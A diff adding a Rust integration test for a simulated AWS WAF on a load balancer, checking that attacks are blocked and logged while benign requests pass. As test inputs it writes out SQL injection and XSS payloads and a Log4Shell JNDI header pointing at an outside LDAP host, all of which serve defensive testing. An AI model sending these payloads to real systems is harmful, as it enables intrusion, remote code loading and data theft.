@@ -1,0 +1,412 @@
+//! AWS WAF on the ALB end to end: every request comes from the emulated
+//! internet to the ALB's DNS name; a block is the ALB's 403 and never
+//! reaches the target; every verdict is in the lab's WAF log with its rule.
+
+mod common;
+
+use common::{require_root, TestLab};
+use serde_json::Value;
+use vpcsim::lb::client::query_status;
+
+/// A target behind an ALB with one web ACL exercising every kind of rule.
+/// Internet hosts: .10 an ordinary client, .11 an admin (allowed by IP set),
+/// .12 a banned address, .13 a second ordinary client.
+const TOPOLOGY: &str = r#"
+name = "x"
+region = "us-east-1"
+
+[vpc]
+cidr = "10.0.0.0/16"
+
+[internet]
+hosts = ["203.0.113.10", "203.0.113.11", "203.0.113.12", "203.0.113.13"]
+
+[[subnet]]
+name = "public-1"
+cidr = "10.0.1.0/24"
+az = "us-east-1a"
+route_table = "public"
+
+[[subnet]]
+name = "public-2"
+cidr = "10.0.3.0/24"
+az = "us-east-1b"
+route_table = "public"
+
+[[subnet]]
+name = "private-1"
+cidr = "10.0.2.0/24"
+az = "us-east-1a"
+
+[internet_gateway]
+name = "igw"
+
+[[route_table]]
+name = "public"
+routes = [{ destination = "0.0.0.0/0", target = "igw" }]
+
+[[security_group]]
+name = "sg-alb"
+ingress = [{ protocol = "tcp", ports = "80", cidr = "0.0.0.0/0" }]
+
+[[security_group]]
+name = "sg-app"
+ingress = [{ protocol = "tcp", ports = "8000", source_sg = "sg-alb" }]
+
+[[instance]]
+name = "app"
+subnet = "private-1"
+security_groups = ["sg-app"]
+run = "model-v1"
+
+[[target_group]]
+name = "tg"
+port = 8000
+targets = ["app"]
+health_check = { path = "/", interval = 5, timeout = 2, healthy_threshold = 2, unhealthy_threshold = 2, matcher = "200-499" }
+
+[[load_balancer]]
+name = "alb"
+subnets = ["public-1", "public-2"]
+security_groups = ["sg-alb"]
+
+[[load_balancer.listener]]
+port = 80
+default_forward = [{ target_group = "tg", weight = 1 }]
+
+[[web_acl]]
+name = "waf-test"
+default_action = "allow"
+load_balancers = ["alb"]
+rules = [
+  { name = "admins", priority = 1, ip_set = ["203.0.113.11/32"], action = "allow" },
+  { name = "banned", priority = 2, ip_set = ["203.0.113.12/32"], action = "block" },
+  { name = "no-old-api", priority = 5, action = "block", block_status = 410, block_body = "API v0 is gone", match = { field = "uri_path", positional = "STARTS_WITH", value = "/api/v0/", transforms = ["URL_DECODE", "LOWERCASE"] } },
+  { name = "oversize-match", priority = 6, action = "block", match = { and = [ { field = "uri_path", positional = "EXACTLY", value = "/oversize/match" }, { field = "body", positional = "CONTAINS", value = "ATTACK", oversize = "MATCH" } ] } },
+  { name = "oversize-nomatch", priority = 7, action = "block", match = { and = [ { field = "uri_path", positional = "EXACTLY", value = "/oversize/nomatch" }, { field = "body", positional = "CONTAINS", value = "ATTACK", oversize = "NO_MATCH" } ] } },
+  { name = "oversize-continue", priority = 8, action = "block", match = { and = [ { field = "uri_path", positional = "EXACTLY", value = "/oversize/continue" }, { field = "body", positional = "CONTAINS", value = "ATTACK", oversize = "CONTINUE" } ] } },
+  { name = "common", priority = 10, managed = "AWSManagedRulesCommonRuleSet", excluded = ["SizeRestrictions_BODY"] },
+  { name = "bad-inputs", priority = 20, managed = "AWSManagedRulesKnownBadInputsRuleSet", override = "count" },
+  { name = "sqli", priority = 30, managed = "AWSManagedRulesSQLiRuleSet" },
+  { name = "rate", priority = 40, rate_limit = 10, window = 60, aggregate = "ip", action = "block", match = { field = "uri_path", positional = "STARTS_WITH", value = "/rate" } },
+]
+"#;
+
+struct Waf {
+    lab: TestLab,
+    dns: String,
+}
+
+impl Waf {
+    fn up(name: &str) -> Waf {
+        let lab = TestLab::up(name, TOPOLOGY);
+        let dns = query_status(&lab.name).expect("ALB status").load_balancers[0]
+            .dns_name
+            .clone();
+        Waf { lab, dns }
+    }
+
+    /// One curl from internet host `from` to the ALB: (status, body).
+    fn curl(&self, from: &str, args: &str, path: &str) -> (u16, String) {
+        let script = format!(
+            "curl -s -m 20 --interface {from} -w '\\n@@%{{http_code}}' {args} 'http://{}{path}'",
+            self.dns
+        );
+        let (_, out) = self.lab.sh("internet", &script);
+        let (body, code) = out.rsplit_once("\n@@").unwrap_or((&out, "0"));
+        (code.trim().parse().unwrap_or(0), body.to_string())
+    }
+
+    /// The WAF log records, waiting (bounded) until `n` are written.
+    fn records(&self, n: usize) -> Vec<Value> {
+        for _ in 0..100 {
+            let out = self.lab.vpcsim(&["waf-logs", "--lab", &self.lab.name]);
+            assert!(
+                out.status.success(),
+                "{}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+            let v: Vec<Value> = String::from_utf8_lossy(&out.stdout)
+                .lines()
+                .map(|l| serde_json::from_str(l).expect("one JSON record per line"))
+                .collect();
+            if v.len() >= n {
+                return v;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(100));
+        }
+        panic!("fewer than {n} WAF log records");
+    }
+
+    /// The record of the request whose URI is `uri`.
+    fn record(&self, uri: &str, n: usize) -> Value {
+        self.records(n)
+            .into_iter()
+            .rev()
+            .find(|r| r["httpRequest"]["uri"] == uri)
+            .unwrap_or_else(|| panic!("no WAF log record for {uri}"))
+    }
+
+    /// What the target saw: the access log lines that reached it.
+    fn reached_target(&self, uri: &str) -> bool {
+        let log = std::fs::read_to_string(format!("/run/vpcsim/{}/alb-access.log", self.lab.name))
+            .unwrap_or_default();
+        log.lines()
+            .any(|l| l.contains(&format!(":80{uri}")) && l.contains("\"waf,forward\""))
+    }
+}
+
+/// The managed rule that terminated a record (`ruleGroupList[].terminatingRule`).
+fn managed_rule(r: &Value) -> String {
+    r["ruleGroupList"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .find_map(|g| g["terminatingRule"]["ruleId"].as_str().map(str::to_string))
+        .unwrap_or_default()
+}
+
+const FORM: &str = "-H 'Content-Type: application/x-www-form-urlencoded'";
+const JSON: &str = "-H 'Content-Type: application/json'";
+
+#[test]
+fn attacks_are_blocked_and_logged_benign_requests_pass() {
+    if !require_root() {
+        return;
+    }
+    let w = Waf::up("waf-e2e");
+    let c = "203.0.113.10";
+    let mut n = 0;
+    let mut send = |args: &str, path: &str| {
+        n += 1;
+        (w.curl(c, args, path), n)
+    };
+    // Classic SQL injection and XSS, in every place a client can put them.
+    let attacks = [
+        (
+            "",
+            "/q/sqli?id=1%27%20OR%20%271%27%3D%271",
+            "sqli",
+            "SQLi_QUERYARGUMENTS",
+        ),
+        (
+            "",
+            "/q/union?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
+            "sqli",
+            "SQLi_QUERYARGUMENTS",
+        ),
+        (
+            "",
+            "/q/xss?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+            "common",
+            "CrossSiteScripting_QUERYARGUMENTS",
+        ),
+        (
+            &format!("{FORM} -d \"user=admin'--&pass=x\""),
+            "/b/form-sqli",
+            "sqli",
+            "SQLi_BODY",
+        ),
+        (
+            &format!("{FORM} --data-urlencode 'comment=<img src=x onerror=alert(1)>'"),
+            "/b/form-xss",
+            "common",
+            "CrossSiteScripting_BODY",
+        ),
+        (
+            &format!("{JSON} -d '{{\"user_id\": \"1 OR 1=1\"}}'"),
+            "/b/json-sqli",
+            "sqli",
+            "SQLi_BODY",
+        ),
+        (
+            &format!("{JSON} -d '{{\"name\": \"<script>alert(1)</script>\"}}'"),
+            "/b/json-xss",
+            "common",
+            "CrossSiteScripting_BODY",
+        ),
+        (
+            "-H \"Cookie: session=1' or '1'='1\"",
+            "/h/cookie-sqli",
+            "sqli",
+            "SQLi_COOKIE",
+        ),
+        (
+            "-H 'Cookie: pref=<script>alert(1)</script>'",
+            "/h/cookie-xss",
+            "common",
+            "CrossSiteScripting_COOKIE",
+        ),
+    ];
+    for (args, path, rule, managed) in attacks {
+        let ((code, body), k) = send(args, path);
+        assert_eq!(code, 403, "{path} was not blocked: {body}");
+        assert!(
+            body.contains("<center><h1>403 Forbidden</h1></center>"),
+            "{body}"
+        );
+        let uri = path.split('?').next().unwrap();
+        let r = w.record(uri, k);
+        assert_eq!(r["action"], "BLOCK", "{r}");
+        assert_eq!(r["terminatingRuleId"], rule, "{r}");
+        assert_eq!(r["terminatingRuleType"], "MANAGED_RULE_GROUP");
+        assert_eq!(managed_rule(&r), managed, "{r}");
+        assert!(!w.reached_target(uri), "{uri} reached the target");
+    }
+    // The seed's JSON posts and what a browser sends pass untouched.
+    let browser = "-H 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36' \
+         -H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8' \
+         -H 'Accept-Language: es-ES,es;q=0.9,en;q=0.8' -H 'Accept-Encoding: gzip, deflate' \
+         -H 'Referer: http://example.com/search?q=canary+deployment&page=2' \
+         -H 'Cookie: _ga=GA1.1.1234567890.1700000000; theme=dark; AWSALB=00000000000000000'";
+    let benign = [
+        (
+            format!("{JSON} -d '{{\"user_id\": \"42\"}}'"),
+            "/api/v1/recommendation",
+        ),
+        (
+            format!("{JSON} -d '{{\"user_id\": 7}}'"),
+            "/api/v1/recommendation",
+        ),
+        (browser.to_string(), "/"),
+        (
+            browser.to_string(),
+            "/search?q=O%27Reilly+books&sort=price-asc&select=all",
+        ),
+        (
+            format!("{FORM} -d 'name=Mar%C3%ADa+O%27Neil&comment=Great+%26+fast%21'"),
+            "/contact",
+        ),
+    ];
+    for (args, path) in &benign {
+        let ((code, body), k) = send(args, path);
+        assert_ne!(code, 403, "benign {path} blocked: {body}");
+        let uri = path.split('?').next().unwrap();
+        let r = w.record(uri, k);
+        assert_eq!(r["action"], "ALLOW", "{r}");
+        assert_eq!(r["terminatingRuleId"], "Default_Action", "{r}");
+    }
+    let ((code, body), _) = send(
+        &format!("{JSON} -d '{{\"user_id\": \"42\"}}'"),
+        "/api/v1/recommendation",
+    );
+    assert_eq!(code, 200);
+    assert!(body.contains("V1 - Stable"), "{body}");
+
+    // Metrics per web ACL and rule, as in CloudWatch.
+    let s = query_status(&w.lab.name).unwrap();
+    let m = &s.web_acls[0].metrics;
+    assert_eq!(m.all.blocked, attacks.len() as u64);
+    assert_eq!(m.all.allowed, benign.len() as u64 + 1);
+    let rule = |name: &str| &m.rules.iter().find(|(r, _)| r == name).unwrap().1;
+    assert_eq!(rule("sqli").blocked, 5);
+    assert_eq!(rule("common").blocked, 4);
+}
+
+#[test]
+fn count_mode_excluded_rules_ip_sets_custom_responses_and_body_limit() {
+    if !require_root() {
+        return;
+    }
+    let w = Waf::up("waf-modes");
+    let c = "203.0.113.10";
+    // Count mode: KnownBadInputs matches a Log4Shell header but only counts.
+    let (code, _) = w.curl(
+        c,
+        "-H 'X-Api-Version: ${jndi:ldap://198.51.100.9/a}'",
+        "/log4j",
+    );
+    assert_ne!(code, 403);
+    let r = w.record("/log4j", 1);
+    assert_eq!(r["action"], "ALLOW");
+    assert_eq!(
+        r["nonTerminatingMatchingRules"][0]["ruleId"], "bad-inputs",
+        "{r}"
+    );
+    assert_eq!(r["nonTerminatingMatchingRules"][0]["action"], "COUNT");
+    assert_eq!(managed_rule(&r), "Log4JRCE_HEADER", "{r}");
+
+    // An excluded rule no longer blocks: a 9 KB benign body passes
+    // SizeRestrictions_BODY, and the log says it was excluded.
+    let big = format!("{JSON} -d '{{\"notes\": \"{}\"}}'", "a".repeat(9000));
+    let (code, _) = w.curl(c, &big, "/big");
+    assert_ne!(code, 403);
+    let r = w.record("/big", 2);
+    let g = &r["ruleGroupList"][0];
+    assert_eq!(
+        g["excludedRules"][0]["ruleId"], "SizeRestrictions_BODY",
+        "{r}"
+    );
+
+    // The 8 KB the ALB hands the WAF, per oversize handling: an attack
+    // marker past 8 KB is invisible (CONTINUE), the oversize body itself
+    // matches (MATCH) or never does (NO_MATCH).
+    let past = format!("-d '{}ATTACK'", "a".repeat(9000));
+    let within = "-d 'xATTACKx'";
+    assert_eq!(w.curl(c, within, "/oversize/continue").0, 403);
+    assert_ne!(w.curl(c, &past, "/oversize/continue").0, 403);
+    assert_eq!(
+        w.curl(c, &format!("-d '{}'", "a".repeat(9000)), "/oversize/match")
+            .0,
+        403
+    );
+    assert_eq!(w.curl(c, within, "/oversize/match").0, 403);
+    assert_ne!(w.curl(c, "-d 'harmless'", "/oversize/match").0, 403);
+    assert_ne!(w.curl(c, &past, "/oversize/nomatch").0, 403);
+    assert_eq!(w.curl(c, within, "/oversize/nomatch").0, 403);
+
+    // IP sets: the admin passes even with SQL in the query, the banned
+    // address is blocked on a harmless request.
+    let sql = "/ip?id=1%27%20OR%20%271%27%3D%271";
+    assert_ne!(w.curl("203.0.113.11", "", sql).0, 403);
+    assert_eq!(w.curl("203.0.113.13", "", sql).0, 403);
+    assert_eq!(w.curl("203.0.113.12", "", "/hello").0, 403);
+    let r = w.record("/hello", 12);
+    assert_eq!(r["terminatingRuleId"], "banned");
+    assert_eq!(r["terminatingRuleType"], "REGULAR");
+
+    // A custom response, after the rule's transformations.
+    let (code, body) = w.curl(c, "", "/API/V0/%75sers");
+    assert_eq!((code, body.as_str()), (410, "API v0 is gone"));
+
+    // The access log marks every request the WAF saw.
+    let log =
+        std::fs::read_to_string(format!("/run/vpcsim/{}/alb-access.log", w.lab.name)).unwrap();
+    assert!(
+        log.lines()
+            .all(|l| l.contains("\"waf,forward\"") || l.contains("\"waf\"")),
+        "{log}"
+    );
+}
+
+#[test]
+fn rate_based_rule_blocks_one_client_while_another_is_served() {
+    if !require_root() {
+        return;
+    }
+    let w = Waf::up("waf-rate");
+    let (_, out) = w.lab.sh(
+        "internet",
+        &format!(
+            "for i in $(seq 15); do curl -s -o /dev/null -m 10 --interface 203.0.113.10 -w '%{{http_code}} ' http://{}/rate; done",
+            w.dns
+        ),
+    );
+    let codes: Vec<&str> = out.split_whitespace().collect();
+    assert_eq!(codes.len(), 15, "{out}");
+    assert!(codes[..10].iter().all(|c| *c != "403"), "{out}");
+    assert!(codes[10..].iter().all(|c| *c == "403"), "{out}");
+    // The other client is under its own limit.
+    assert_ne!(w.curl("203.0.113.13", "", "/rate").0, 403);
+    // Outside the scope-down the first client is still served.
+    assert_ne!(w.curl("203.0.113.10", "", "/other").0, 403);
+    let r = w
+        .records(17)
+        .into_iter()
+        .find(|r| r["terminatingRuleId"] == "rate")
+        .expect("a rate-based block in the WAF log");
+    assert_eq!(r["terminatingRuleType"], "RATE_BASED");
+    assert_eq!(r["rateBasedRuleList"][0]["limitKey"], "IP");
+    assert_eq!(r["rateBasedRuleList"][0]["limitValue"], "203.0.113.10");
+    assert_eq!(r["rateBasedRuleList"][0]["maxRateAllowed"], 10);
+}
